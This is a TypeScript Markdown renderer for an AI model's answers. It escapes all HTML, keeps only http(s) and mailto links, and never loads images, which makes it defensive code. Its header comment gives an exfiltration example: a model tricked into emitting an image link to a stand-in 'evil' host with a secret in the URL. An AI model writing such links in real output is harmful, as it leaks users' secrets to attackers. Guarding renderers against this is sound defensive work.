// A small Markdown renderer for the model's answers, safe by construction:
// every piece of text is HTML-escaped before any markup is made, so nothing
// the model writes becomes an element of its own. Links keep only http(s)
// and mailto URLs; an image is shown as its alt text, never loaded nor
// linked (a model tricked into writing ![](https://evil/?secret) leaks
// nothing).

const escapes: Record<string, string> = { "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" };

export function escapeHtml(s: string): string {
  return s.replace(/[&<>"']/g, (c) => escapes[c]);
}

/** safeUrl returns the URL if it is http(s) or mailto, else "". */
export function safeUrl(url: string): string {
  const u = url.trim();
  return /^(https?:\/\/|mailto:)/i.test(u) && !/[\s"'<>`]/.test(u) ? u : "";
}

/** inline renders the inline markup of one line of escaped-later text. */
function inline(text: string): string {
  // Code spans first: their content is literal.
  const parts = text.split(/(`+)([^`]|[^`][\s\S]*?[^`])\1(?!`)/);
  let out = "";
  for (let i = 0; i < parts.length; i++) {
    if (i % 3 === 0) {
      out += spans(parts[i]);
    } else if (i % 3 === 2) {
      out += "<code>" + escapeHtml(parts[i].trim()) + "</code>";
    }
  }
  return out;
}

function spans(text: string): string {
  let s = escapeHtml(text.replace(/\u0000/g, ""));
  // Images and links: [text](url), ![alt](url). The URL was escaped with
  // the rest; it is checked as written. Each becomes a placeholder until
  // the emphasis is done, so that no emphasis reaches into a URL.
  const links: string[] = [];
  s = s.replace(/(!?)\[([^\]\n]*)\]\(([^()\s]+)\)/g, (_m, bang: string, label: string, href: string) => {
    const raw = href.replace(/&amp;/g, "&");
    const url = safeUrl(raw);
    const shown = bang ? (label ? "image: " + label : "image") : label || href;
    links.push(url && !bang ? `<a href="${escapeHtml(url)}" title="${escapeHtml(url)}">${shown}</a>` : shown);
    return "\u0000" + (links.length - 1) + "\u0000";
  });
  s = s.replace(/\*\*(?=\S)([^*]+?)\*\*/g, "<strong>$1</strong>");
  s = s.replace(/__(?=\S)([^_]+?)__/g, "<strong>$1</strong>");
  s = s.replace(/(^|[^*\w])\*(?=\S)([^*\n]+?)\*(?![*\w])/g, "$1<em>$2</em>");
  s = s.replace(/(^|[^_\w])_(?=\S)([^_\n]+?)_(?![_\w])/g, "$1<em>$2</em>");
  s = s.replace(/~~(?=\S)([^~]+?)~~/g, "<del>$1</del>");
  return s.replace(/\u0000(\d+)\u0000/g, (_m, i: string) => links[Number(i)]);
}

/** renderMarkdown turns Markdown into HTML that holds no markup of the text's own. */
export function renderMarkdown(md: string): string {
  const lines = md.replace(/\r\n?/g, "\n").split("\n");
  const out: string[] = [];
  let para: string[] = [];
  let list: { ordered: boolean; items: string[] } | null = null;
  const flushPara = () => {
    if (para.length) out.push("<p>" + para.map(inline).join("<br>") + "</p>");
    para = [];
  };
  const flushList = () => {
    if (list) {
      const tag = list.ordered ? "ol" : "ul";
      out.push(`<${tag}>` + list.items.map((i) => "<li>" + inline(i) + "</li>").join("") + `</${tag}>`);
    }
    list = null;
  };
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i];
    const fence = /^\s*(`{3,}|~{3,})\s*([\w+-]*)/.exec(line);
    if (fence) {
      flushPara();
      flushList();
      const close = fence[1];
      const body: string[] = [];
      for (i++; i < lines.length && !lines[i].trim().startsWith(close); i++) body.push(lines[i]);
      const lang = fence[2] ? ` class="lang-${escapeHtml(fence[2])}"` : "";
      out.push(`<pre><code${lang}>` + escapeHtml(body.join("\n")) + "</code></pre>");
      continue;
    }
    const heading = /^(#{1,6})\s+(.*)$/.exec(line);
    const bullet = /^\s*[-*+]\s+(.*)$/.exec(line);
    const numbered = /^\s*\d+[.)]\s+(.*)$/.exec(line);
    if (heading) {
      flushPara();
      flushList();
      const n = Math.min(heading[1].length + 2, 6); // the view's headings are small
      out.push(`<h${n}>` + inline(heading[2]) + `</h${n}>`);
    } else if (bullet || numbered) {
      flushPara();
      const ordered = !bullet;
      if (list && list.ordered !== ordered) flushList();
      if (!list) list = { ordered, items: [] };
      list.items.push((bullet ?? numbered)![1]);
    } else if (/^\s*>\s?/.test(line)) {
      flushPara();
      flushList();
      out.push("<blockquote>" + inline(line.replace(/^\s*>\s?/, "")) + "</blockquote>");
    } else if (line.trim() === "") {
      flushPara();
      flushList();
    } else if (list && /^\s{2,}\S/.test(line)) {
      list.items[list.items.length - 1] += " " + line.trim();
    } else {
      flushList();
      para.push(line);
    }
  }
  flushPara();
  flushList();
  return out.join("\n");
}
